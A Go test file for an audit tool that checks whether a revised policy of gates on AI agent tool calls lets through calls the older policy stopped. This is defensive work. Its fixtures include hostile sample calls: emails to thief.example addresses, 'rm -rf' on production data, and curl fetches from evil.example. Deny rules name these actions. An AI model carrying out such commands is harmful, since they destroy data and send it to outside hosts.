package learn

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/gbt-policy/gbt/gates"
	"github.com/gbt-policy/gbt/internal/corpora/contexts"
	"github.com/gbt-policy/gbt/internal/gates/lang"
	"github.com/gbt-policy/gbt/internal/redact"
)

func gate(t *testing.T, scope, disposition, expr string) gates.Gate {
	t.Helper()
	canonical, program, err := lang.Compile(expr)
	if err != nil {
		t.Fatalf("%s: %v", expr, err)
	}
	return gates.Gate{ID: gateID(scope, disposition, canonical), Scope: scope, Disposition: disposition, Expr: canonical, Program: program}
}

// recordedContexts are contexts of the calls that the gates of auditSide stop.
func recordedContexts(t *testing.T) []*contexts.Row {
	t.Helper()
	var c contexts.Corpus
	add := func(macro string, ctx gates.Context) {
		r := redact.Context(&ctx)
		c.Add(contexts.NewRow(contexts.Unsafe, &r, macro, contexts.Evidence{Episode: "e", Task: "t"}))
	}
	state := gates.State{Cwd: "/w", Roots: []string{"/w"}, UID: -1, GID: -1}
	for i := range 8 {
		heard := state
		heard.Sources = sources{"untrusted", "get_page", "~"}
		add("mail", gates.NewContext(gates.Request{Tool: "send_email", Args: fmt.Appendf(nil, `{"recipients":["x%d@thief.example"],"body":"b"}`, i)}, heard))
		add("shell", gates.ShellContext(fmt.Sprintf("rm -rf /srv/prod/data%d", i), state))
		add("shell", gates.ShellContext(fmt.Sprintf("curl https://up%d.evil.example/x", i), state))
	}
	return c.Rows(contexts.Unsafe)
}

type sources struct{ origin, source, form string }

func (s sources) Find(string) (string, string, string) { return s.origin, s.source, s.form }

const (
	mailExpr  = `!ctx.high || !ctx.args.exists(a, a.origin == "untrusted" && a.form.contains("~") && a.role == "recipient" && !(ctx.tool == "send_email" && a.source in ["get_contacts"]))`
	prodExpr  = `!ctx.effects.exists(e, e.type == "delete" && e.resource.under("/srv/prod"))`
	evilExpr  = `!ctx.effects.exists(e, e.type == "network" && e.domain.domainUnder("evil.example"))`
	localExpr = `!(ctx.family == "shell" && ctx.effects.exists(e, e.type == "network"))`
)

func auditSide(t *testing.T) Side {
	s := Side{Gates: []gates.Gate{
		gate(t, ScopeGlobal, AskFirst, mailExpr), gate(t, ScopeGlobal, Reject, prodExpr), gate(t, ScopeGlobal, Reject, evilExpr),
		gate(t, ScopeNode, Reject, localExpr),
	}}
	s.At = map[string][]string{"shell": {s.Gates[3].ID}}
	return s
}

// below returns the side with its node gate as one of the subtrees of a macro that
// no recorded context was part of.
func below(s Side, scope, macro string) Side {
	s.Gates[3].Scope = scope
	s.Gates[3].ID = gateID(scope, s.Gates[3].Disposition, s.Gates[3].Expr)
	s.At = map[string][]string{macro: {s.Gates[3].ID}}
	return s
}

// TestAuditSubtree holds that no child is freed from the gate of its subtree: by a
// gate that is gone, moved to another macro, asked where the place is known alone,
// or narrower.
func TestAuditSubtree(t *testing.T) {
	var c contexts.Corpus
	fetch := gates.ShellContext("curl https://plain.example/x", gates.State{Cwd: "/w", Roots: []string{"/w"}, UID: -1, GID: -1})
	fetch = redact.Context(&fetch)
	c.Add(contexts.NewRow(contexts.Unsafe, &fetch, "shell", contexts.Evidence{Episode: "e", Task: "t"}))
	rows := append(recordedContexts(t), c.Rows(contexts.Unsafe)...)
	old := below(auditSide(t), ScopeSubtree, "open")
	gone := auditSide(t)
	gone.Gates, gone.At = gone.Gates[:3], nil
	everywhere := auditSide(t)
	everywhere.Gates = append(everywhere.Gates, gate(t, ScopeGlobal, Reject, localExpr))
	for _, c := range []struct {
		name     string
		old, new Side
		free     bool
	}{
		{"the same", old, below(auditSide(t), ScopeSubtree, "open"), false},
		{"global", old, everywhere, false},
		{"a gate of the node, now of its subtree", below(auditSide(t), ScopeNode, "open"), old, false},
		{"gone", old, gone, true},
		{"of another macro", old, below(auditSide(t), ScopeSubtree, "close"), true},
		{"of the node alone", old, below(auditSide(t), ScopeNode, "open"), true},
		{"a gate of the node, of another", below(auditSide(t), ScopeNode, "open"), below(auditSide(t), ScopeNode, "close"), true},
		{"global, now of a subtree", everywhere, old, true},
	} {
		a, err := RunAudit(c.old, c.new, rows, AuditOptions{})
		if err != nil || (a.Readmitted > 0) != c.free || (a.Proved < a.Gates) != c.free {
			t.Errorf("%s: %v, %d re-admitted, %d of %d proved", c.name, err, a.Readmitted, a.Proved, a.Gates)
		}
	}
}

// change returns the side with one gate in another form.
func change(t *testing.T, i int, scope, disposition, expr string) Side {
	s := auditSide(t)
	old := s.Gates[i].ID
	s.Gates[i] = gate(t, scope, disposition, expr)
	for macro, ids := range s.At {
		if k := slices.Index(ids, old); k >= 0 {
			s.At[macro] = []string{}
			if scope == ScopeNode {
				s.At[macro] = []string{s.Gates[i].ID}
			}
		}
	}
	return s
}

// TestAuditUnshown: a gate that no recorded context speaks for is named if it is
// gone or can't be proved to live on, and only then.
func TestAuditUnshown(t *testing.T) {
	const word = `!ctx.args.exists(a, a.path == "mode" && a.value == "everyone")`
	rows := recordedContexts(t)
	old := auditSide(t)
	mine := gate(t, ScopeGlobal, Reject, word)
	old.Gates = append(old.Gates, mine)
	with := func(more ...gates.Gate) Side {
		s := auditSide(t)
		s.Gates = append(s.Gates, more...)
		return s
	}
	for _, c := range []struct {
		name string
		new  Side
		want []string
	}{
		{"kept", with(mine), nil},
		{"more general", with(gate(t, ScopeGlobal, Reject, `!ctx.args.exists(a, a.path == "mode")`)), nil},
		{"gone", with(), []string{mine.ID}},
		{"another word", with(gate(t, ScopeGlobal, Reject, `!ctx.args.exists(a, a.path == "mode" && a.value == "all")`)), []string{mine.ID}},
		{"only asks", with(gate(t, ScopeGlobal, AskFirst, word)), []string{mine.ID}},
		{"with an exception", with(gate(t, ScopeGlobal, Reject, word+` || ctx.cwd == "/tmp"`)), []string{mine.ID}},
		{"one with a record is gone", Side{Gates: append([]gates.Gate{mine}, auditSide(t).Gates[1:]...), At: old.At}, nil},
	} {
		a, err := RunAudit(old, c.new, rows, AuditOptions{})
		if err != nil || !slices.Equal(a.Unshown, c.want) {
			t.Errorf("%s: %v, unshown %v, want %v", c.name, err, a.Unshown, c.want)
		}
	}
}

// TestAuditCatches relaxes a policy in every way there is; each must show.
func TestAuditCatches(t *testing.T) {
	rows := recordedContexts(t)
	without := func(i int) Side {
		s := auditSide(t)
		s.Gates = slices.Delete(s.Gates, i, i+1)
		return s
	}
	detached, part := auditSide(t), auditSide(t)
	detached.At = nil
	part.At = map[string][]string{"other": part.At["shell"]}
	replace := func(expr, old, new string) string {
		if !strings.Contains(expr, old) {
			t.Fatalf("%q is not in %s", old, expr)
		}
		return strings.Replace(expr, old, new, 1)
	}
	for name, relaxed := range map[string]Side{
		"all gates gone":                     {},
		"flow gate gone":                     without(0),
		"delete gate gone":                   without(1),
		"network gate gone":                  without(2),
		"node gate gone":                     without(3),
		"node gate detached":                 detached,
		"node gate moved to another macro":   part,
		"rejects, now asks":                  change(t, 1, ScopeGlobal, AskFirst, prodExpr),
		"rejects, now wants a revision":      change(t, 2, ScopeGlobal, "revision_required", evilExpr),
		"node gate asks":                     change(t, 3, ScopeNode, AskFirst, localExpr),
		"global, now at nodes":               change(t, 1, ScopeNode, Reject, prodExpr),
		"a source more in the list":          change(t, 0, ScopeGlobal, AskFirst, replace(mailExpr, `["get_contacts"]`, `["get_contacts", "get_page"]`)),
		"an unseen source more in the list":  change(t, 0, ScopeGlobal, AskFirst, replace(mailExpr, `["get_contacts"]`, `["get_contacts", "get_users"]`)),
		"allowed in every tool":              change(t, 0, ScopeGlobal, AskFirst, replace(mailExpr, `ctx.tool == "send_email" && `, ``)),
		"a condition more to stop":           change(t, 0, ScopeGlobal, AskFirst, replace(mailExpr, `a.role == "recipient"`, `a.role == "recipient" && ctx.verb == "send"`)),
		"another role":                       change(t, 0, ScopeGlobal, AskFirst, replace(mailExpr, `"recipient"`, `"payload"`)),
		"another form":                       change(t, 0, ScopeGlobal, AskFirst, replace(mailExpr, `a.form.contains("~")`, `a.form.contains("~+")`)),
		"an exemption":                       change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.tool == "send_email"`),
		"a directory deeper":                 change(t, 1, ScopeGlobal, Reject, replace(prodExpr, `"/srv/prod"`, `"/srv/prod/data1"`)),
		"a sibling directory":                change(t, 1, ScopeGlobal, Reject, replace(prodExpr, `"/srv/prod"`, `"/srv/stage"`)),
		"the directory itself alone":         change(t, 1, ScopeGlobal, Reject, replace(prodExpr, `e.resource.under("/srv/prod")`, `e.resource == "/srv/prod"`)),
		"another effect":                     change(t, 1, ScopeGlobal, Reject, replace(prodExpr, `"delete"`, `"write"`)),
		"a subdomain":                        change(t, 2, ScopeGlobal, Reject, replace(evilExpr, `"evil.example"`, `"up1.evil.example"`)),
		"the domain itself alone":            change(t, 2, ScopeGlobal, Reject, replace(evilExpr, `e.domain.domainUnder("evil.example")`, `e.domain == "evil.example"`)),
		"all instead of any":                 change(t, 2, ScopeGlobal, Reject, replace(evilExpr, `exists`, `all`)),
		"only unencrypted":                   change(t, 2, ScopeGlobal, Reject, replace(evilExpr, `e.type == "network"`, `e.type == "network" && e.scheme == "http"`)),
		"a family less":                      change(t, 3, ScopeNode, Reject, replace(localExpr, `"shell"`, `"code"`)),
		"always passes":                      change(t, 1, ScopeGlobal, Reject, `ctx.high || !ctx.high`),
		"only after something sensitive":     change(t, 1, ScopeGlobal, Reject, prodExpr+` || !ctx.flow.sensitive_read`),
		"only with a history":                change(t, 2, ScopeGlobal, Reject, evilExpr+` || !ctx.history.exists(h, h.type == "read")`),
		"a limit on the number of arguments": change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || size(ctx.args) > 2`),
		"unless: a long history":             change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.history.size() >= 4`),
		"unless: many arguments":             change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.args.size() > 12`),
		"unless: the group of root":          change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.gid == 0`),
		"unless: a user":                     change(t, 1, ScopeGlobal, Reject, prodExpr+` || ctx.uid == 1234`),
		"unless: a workspace root":           change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.roots.exists(r, r == "/etc")`),
		"unless: a directory":                change(t, 2, ScopeGlobal, Reject, evilExpr+` || ctx.cwd == "/etc"`),
		"unless: a port":                     change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.effects.exists(e, e.port == 443)`),
		"unless: another port":               change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.effects.exists(e, e.port == 31337)`),
		"unless: an address":                 change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.effects.exists(e, e.ip != "")`),
		"unless: one address":                change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.effects.exists(e, e.ip == "192.0.2.33")`),
		"unless: derived files":              change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.flow.derived.size() > 0`),
		"unless: unvetted files":             change(t, 1, ScopeGlobal, Reject, prodExpr+` || ctx.flow.unvetted.size() > 2`),
		"unless: a derived file":             change(t, 1, ScopeGlobal, Reject, prodExpr+` || ctx.flow.derived.exists(d, d.under("/tmp/x"))`),
		"unless: a parent process":           change(t, 1, ScopeGlobal, Reject, prodExpr+` || ctx.effects.exists(e, e.parent == "make")`),
		"unless: an option":                  change(t, 2, ScopeGlobal, Reject, evilExpr+` || ctx.effects.exists(e, e.argv.contains("--dry-run"))`),
		"unless: a small payload":            change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.effects.exists(e, e.payload.known && e.payload.len < 100)`),
		"unless: a type of payload":          change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.effects.exists(e, e.payload.mime == "text/html")`),
		"unless: a known hash":               change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.effects.exists(e, e.payload.hash.startsWith("00"))`),
		"unless: a long argument":            change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.args.exists(x, x.size > 200)`),
		"unless: an argument":                change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.args.exists(x, x.path == "force" && x.value == "yes")`),
		"unless: a value of digits":          change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.args.exists(x, x.value.matches("^[0-9]+$"))`),
		"unless: a scheme":                   change(t, 2, ScopeGlobal, Reject, evilExpr+` || ctx.effects.exists(e, e.scheme == "ftp")`),
		"unless: a time":                     change(t, 1, ScopeGlobal, Reject, prodExpr+` || ctx.history.exists(h, h.time > 86400)`),
		"unless: a resource class":           change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.resource == "ui"`),
		"unless: two effects":                change(t, 1, ScopeGlobal, Reject, prodExpr+` || ctx.effects.size() == 2`),
		"unless: no root":                    change(t, 1, ScopeGlobal, Reject, prodExpr+` || ctx.roots.size() == 0`),
	} {
		a, err := RunAudit(auditSide(t), relaxed, rows, AuditOptions{Mutations: 5000, Seed: 7, Workers: 2})
		if err != nil {
			t.Fatal(err)
		}
		if a.Readmitted == 0 {
			t.Errorf("%s: not caught (%d of %d proved)", name, a.Proved, a.Gates)
		}
		if a.Proved == a.Gates && len(relaxed.Gates) > 0 {
			t.Errorf("%s: proved, although it is looser", name)
		}
	}
}

// TestAuditPasses changes a policy without loosening it; none may show.
func TestAuditPasses(t *testing.T) {
	rows := recordedContexts(t)
	more := auditSide(t)
	more.Gates = append(more.Gates, gate(t, ScopeGlobal, Reject, `ctx.tool != "other"`))
	for name, tight := range map[string]Side{
		"the same":                auditSide(t),
		"a gate more":             more,
		"asks, now rejects":       change(t, 0, ScopeGlobal, Reject, mailExpr),
		"node gate, now global":   change(t, 3, ScopeGlobal, Reject, localExpr),
		"a directory higher":      change(t, 1, ScopeGlobal, Reject, strings.Replace(prodExpr, "/srv/prod", "/srv", 1)),
		"a domain higher":         change(t, 2, ScopeGlobal, Reject, strings.Replace(evilExpr, `"evil.example"`, `"example"`, 1)),
		"a source less":           change(t, 0, ScopeGlobal, AskFirst, strings.Replace(mailExpr, ` && !(ctx.tool == "send_email" && a.source in ["get_contacts"])`, "", 1)),
		"a condition less":        change(t, 1, ScopeGlobal, Reject, strings.Replace(prodExpr, `e.type == "delete" && `, "", 1)),
		"the same in other words": change(t, 2, ScopeGlobal, Reject, `ctx.effects.all(e, !(e.domain.domainUnder("evil.example") && "network" == e.type))`),
	} {
		a, err := RunAudit(auditSide(t), tight, rows, AuditOptions{Mutations: 4000, Seed: 3, Workers: 2})
		if err != nil {
			t.Fatal(err)
		}
		if a.Readmitted != 0 {
			t.Errorf("%s: %d re-admitted, first %s %v -> %v", name, a.Readmitted, a.Examples[0].Level, a.Examples[0].Old, a.Examples[0].New)
		}
		if a.Proved != a.Gates {
			t.Errorf("%s: %d of %d gates proved", name, a.Proved, a.Gates)
		}
		if a.Real != len(rows) || a.Mutated != 4000 {
			t.Errorf("%s: %d real and %d mutated contexts, want %d and 4000", name, a.Real, a.Mutated, len(rows))
		}
	}
}

func TestAuditWorkers(t *testing.T) {
	rows := recordedContexts(t)
	relaxed := change(t, 0, ScopeGlobal, AskFirst, mailExpr+` || ctx.verb == "delete"`)
	var first *Audit
	for _, workers := range []int{1, 2, 5} {
		a, err := RunAudit(auditSide(t), relaxed, rows, AuditOptions{Mutations: 10000, Seed: 9, Workers: workers})
		if err != nil {
			t.Fatal(err)
		}
		if first == nil {
			first = a
		}
		if fmt.Sprint(*a) != fmt.Sprint(*first) {
			t.Errorf("%d workers: another audit", workers)
		}
	}
	if first.Readmitted == 0 {
		t.Error("nothing re-admitted: the comparison says nothing")
	}
}

// TestAuditClasses: characters fewer in a class of a pattern stop fewer values.
func TestAuditClasses(t *testing.T) {
	rows := recordedContexts(t)
	with := func(class string) Side {
		return Side{Gates: []gates.Gate{gate(t, ScopeGlobal, Reject, `!ctx.args.exists(a, a.value.matches("^[`+class+`]"))`)}}
	}
	const all = "a-zA-Z0-9@./:-"
	for _, part := range []string{"a-z", "A-Z", "0-9", "@", "./"} {
		a, err := RunAudit(with(all), with(strings.Replace(all, part, "", 1)), rows, AuditOptions{Mutations: 5000, Seed: 7, Workers: 2})
		if err != nil || a.Readmitted == 0 {
			t.Errorf("%s less: %v, %+v", part, err, a)
		}
	}
}

// TestAuditDistinct: every mutated context is another one, and where there are
// no more the audit ends and says how many there were.
func TestAuditDistinct(t *testing.T) {
	rows := recordedContexts(t)
	j, err := newJudge(auditSide(t), Side{})
	if err != nil {
		t.Fatal(err)
	}
	opt := AuditOptions{Mutations: 20000, Seed: 5, Workers: 2}
	m := newMutator(auditSide(t))
	seen := map[uint64]struct{}{}
	for _, r := range rows {
		c, err := gates.ParseContext(r.Context)
		if err != nil {
			t.Fatal(err)
		}
		m.learn(&c)
		m.bases = append(m.bases, base{c, r.Macro})
		seen[digestOf(r.Context)] = struct{}{}
	}
	m.finish()
	out := &Audit{}
	mutate(out, j, m, seen, opt)
	if out.Mutated != opt.Mutations || len(seen) != opt.Mutations+len(rows) || out.Readmitted != opt.Mutations {
		t.Errorf("%d mutated and %d re-admitted, %d distinct, want %d", out.Mutated, out.Readmitted, len(seen)-len(rows), opt.Mutations)
	}
	// Where nothing is stopped the audit ends, and says that it tried.
	if j, err = newJudge(Side{}, Side{}); err != nil {
		t.Fatal(err)
	}
	few := &Audit{}
	mutate(few, j, m, map[uint64]struct{}{}, opt)
	if few.Mutated != 0 || few.Tried < opt.Mutations || few.Tried > maxTurns*(opt.Mutations+chunk) {
		t.Errorf("%+v", few)
	}
}
